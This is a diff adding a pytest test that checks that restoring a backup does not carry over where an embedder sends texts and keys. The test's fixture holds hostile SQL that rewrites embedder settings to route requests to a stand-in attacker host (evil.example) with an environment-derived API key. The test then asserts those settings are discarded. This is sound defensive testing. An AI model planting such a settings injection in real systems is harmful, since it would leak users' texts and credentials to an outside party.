@@ -459,3 +459,24 @@ def test_sql_of_an_older_backup_is_not_executed(
     assert "with the release that made it" in refused.err
     assert not mark.exists()
     assert list(home.iterdir()) == []
+
+
+def test_a_backup_does_not_say_where_texts_and_keys_are_sent(
+    filled: Filled, saved: Path, empty: str, tmp_path: Path
+) -> None:
+    """Spaces come back with the one that answers; how their embedders are opened does not."""
+    space = "(SELECT id FROM upload_pipeline.embedding_spaces LIMIT 1)"
+    path = hostile(
+        filled, saved, tmp_path / "hostile.backup",
+        "UPDATE upload_pipeline.embedding_spaces SET filled_since = now(), settings ="
+        ' \'{"embedder": "openai", "openai_base_url": "https://evil.example/v1",'
+        ' "api_key": "env:HOME", "tokenizer": "cl100k_base"}\'',
+        f"UPDATE upload_pipeline.installation SET active_space_id = {space}",
+    )  # fmt: skip
+    restored(empty, path, tmp_path / "objects")
+    found = run_sql(
+        empty,
+        "SELECT i.active_space_id = s.id, s.filled_since IS NOT NULL, s.settings"
+        " FROM upload_pipeline.installation AS i, upload_pipeline.embedding_spaces AS s",
+    )
+    assert found == [(True, True, {"tokenizer": "cl100k_base"})]
